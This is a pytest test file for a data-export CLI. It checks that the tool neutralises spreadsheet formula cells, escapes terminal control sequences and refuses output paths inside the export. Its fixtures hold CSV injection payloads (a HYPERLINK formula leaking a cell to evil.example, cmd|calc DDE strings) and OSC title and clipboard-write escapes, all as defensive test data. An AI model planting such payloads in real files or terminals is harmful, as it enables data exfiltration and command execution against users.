"""What the commands show is safe to open (issue 22, items 1-3): CSV cells a spreadsheet would run as formulas are
neutralised, server text with terminal escapes is shown escaped on a terminal (and as it is in files), and an
--output inside the export is refused."""

from __future__ import annotations

import csv
import io
import os
import pty
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from cli_support import one_sentence, run_data
from click.testing import CliRunner
from conftest import load_payload

import oqtopus_data.cli.console as console
from oqtopus_data import flatten, result_from_raw, write_dataset

AT = datetime(2025, 6, 1, tzinfo=UTC)
TITLE = "\x1b]0;pwned\x07"  # sets the terminal's window title
CLIPBOARD = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # OSC 52: writes the clipboard on terminals that allow it
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-1+cmd|' /C calc'!A0", "\tstarts with a tab", "\rstarts with a CR"]


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An export whose job names and device ids are formulas and terminal escapes."""
    names = [*FORMULAS, f"title{TITLE}", f"clip{CLIPBOARD}", "plain"]
    jobs = []
    for i, name in enumerate(names):
        payload = load_payload("sampling_current")
        payload["job_id"] = f"job-{i:02d}"
        payload["name"] = name
        payload["device_id"] = FORMULAS[0] if i == 0 else f"dev{TITLE}" if i < 4 else "Kawasaki"
        jobs.append(result_from_raw(payload))
    path = tmp_path_factory.mktemp("show") / "ds"
    write_dataset(flatten(jobs, exported_at=AT), path)
    return path


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_sql_csv_neutralises_formula_cells_and_leaves_numbers(out: Path) -> None:
    query = "SELECT name, shots, -1 AS minus, '-2' AS text_minus FROM jobs ORDER BY job_id"
    done = run_data("sql", out, query, "--format", "csv")
    assert done.exit_code == 0, done.output
    rows = csv_cells(done.stdout)
    assert [r[0] for r in rows[1:7]] == ["'" + f for f in FORMULAS]
    assert rows[-1][0] == "plain" and rows[1][1].isdigit() and rows[1][2] == "-1" and rows[1][3] == "'-2"
    raw = csv_cells(run_data("sql", out, query, "--format", "csv", "--raw-csv").stdout)
    assert [r[0] for r in raw[1:7]] == FORMULAS


def test_usage_csv_neutralises_a_device_id_that_is_a_formula(out: Path, tmp_path: Path) -> None:
    done = run_data("usage", out, "--by", "device", "--format", "csv", "--output", tmp_path / "u.csv")
    assert done.exit_code == 0, done.output
    keys = [r[0] for r in csv_cells((tmp_path / "u.csv").read_text())[1:]]
    assert "'" + FORMULAS[0] in keys and FORMULAS[0] not in keys
    raw = run_data("usage", out, "--by", "device", "--format", "csv", "--raw-csv")
    assert FORMULAS[0] in [r[0] for r in csv_cells(raw.stdout)[1:]]


def test_help_says_what_raw_csv_does() -> None:
    for command in ("sql", "usage"):
        text = " ".join(run_data(command, "--help").stdout.split())
        assert "--raw-csv" in text and "formula" in text and "leading '" in text, command


def on_terminal(*args: object, status: int = 0) -> str:
    """`oqtopus-data ARGS` as a real process whose stdout and stderr are a terminal (a pty): what it shows."""
    leader, follower = pty.openpty()
    env = {**os.environ, "COLUMNS": "250"}
    process = subprocess.Popen([sys.executable, "-m", "oqtopus_data.cli", *map(str, args)], stdout=follower,
                               stderr=follower, stdin=subprocess.DEVNULL, env=env)
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the process closed its end
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert process.wait(timeout=60) == status, b"".join(chunks)
    return b"".join(chunks).decode()


@pytest.mark.parametrize("args", [("info",), ("sql", "SELECT name, device_id FROM jobs"),
                                  ("usage", "--by", "device")], ids=["info", "sql", "usage"])
def test_control_characters_in_data_are_shown_escaped_on_a_terminal(out: Path, args: tuple[str, ...]) -> None:
    shown = on_terminal(args[0], out, *args[1:])
    assert "\x1b" not in shown and "\x07" not in shown
    assert "\\x1b]0;pwned\\x07" in shown
    if args[0] == "sql":
        assert "\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in shown


def test_an_error_that_quotes_server_text_is_escaped_on_a_terminal(out: Path, tmp_path: Path) -> None:
    shown = on_terminal("report", out, tmp_path / "r.html", "--device", "nothing-like-these", status=1)
    assert "its devices are:" in shown and "\x1b" not in shown and "dev\\x1b]0;pwned\\x07" in shown


def test_files_and_pipes_get_the_data_as_it_is(out: Path, tmp_path: Path) -> None:
    piped = run_data("sql", out, "SELECT name FROM jobs WHERE name LIKE 'clip%'")
    assert f"clip{CLIPBOARD}" in piped.stdout
    run_data("sql", out, "SELECT name FROM jobs WHERE name LIKE 'clip%'", "--output", tmp_path / "t.txt")
    assert f"clip{CLIPBOARD}" in (tmp_path / "t.txt").read_text()


def test_the_export_error_list_escapes_server_text_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    report = SimpleNamespace(errors=[(None, "devices", f"bad{CLIPBOARD}"), (f"job{TITLE}", "fetch", f"m{TITLE}")],
                             complete=True)
    monkeypatch.setattr(console, "is_terminal", lambda err=False: True)
    shown = CliRunner().invoke(_print_failures(report)).stderr
    assert "\x1b" not in shown and "\\x1b]52;c;" in shown and "job\\x1b]0;pwned\\x07: fetch: m\\x1b]0;" in shown
    monkeypatch.setattr(console, "is_terminal", lambda err=False: False)
    assert CLIPBOARD in CliRunner().invoke(_print_failures(report)).stderr  # a log file keeps the text


def _print_failures(report: SimpleNamespace) -> object:
    import click

    @click.command()
    def show() -> None:
        console.print_failures(report, "out")

    return show


@pytest.mark.parametrize("inside", ["data", "manifest", "root", "symlink"])
def test_an_output_inside_the_export_is_refused(out: Path, tmp_path: Path, inside: str) -> None:
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    if inside == "data":
        target = next(p for p in before if p.suffix == ".parquet")
    elif inside == "manifest":
        target = max((p for p in before if "manifest" in str(p.relative_to(out))), key=lambda p: p.name)
    elif inside == "root":
        target = out / "result.csv"
    else:
        link = tmp_path / "link"
        link.symlink_to(out, target_is_directory=True)
        target = link / next(p for p in before if p.suffix == ".parquet").relative_to(out)
    for command in (("sql", out, "SELECT * FROM jobs", "--format", "csv", "--output", target),
                    ("usage", out, "--format", "csv", "--output", target), ("report", out, target)):
        refused = run_data(*command)
        assert refused.exit_code == 2, refused.output
        assert one_sentence(refused, "oqtopus-data").startswith(f"cannot write {target}: it is inside the export")
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
